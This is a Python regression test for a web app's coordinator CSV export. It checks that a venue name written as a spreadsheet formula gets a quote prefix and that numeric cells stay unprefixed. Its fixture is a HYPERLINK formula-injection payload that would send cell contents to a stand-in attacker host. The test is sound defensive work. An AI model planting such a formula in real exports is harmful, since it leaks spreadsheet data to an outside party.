"""A venue named like a spreadsheet formula reaches the coordinators' CSV as plain text (issue 16)."""
from __future__ import annotations

import csv
import io

from .conftest import signed_in

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def test_a_formula_venue_name_is_neutralised_in_the_csv(app, region, staff, client):
    from nortime.db import db
    from nortime.models import Venue

    with app.app_context():
        db.session.query(Venue).filter_by(slug="setermoen-hall").one().name = FORMULA
        db.session.commit()
    signed_in(client, staff.coordinator)
    rows = list(csv.reader(io.StringIO(client.get("/coordinator/tables/venue.csv?lang=en")
                                       .data.decode("utf-8-sig"))))
    labels = [row[0] for row in rows]
    assert "'" + FORMULA in labels and FORMULA not in labels
    numbers = [cell for row in rows[1:] for cell in row[1:]]
    assert numbers and not any(cell.startswith("'") for cell in numbers)  # counts stay numbers
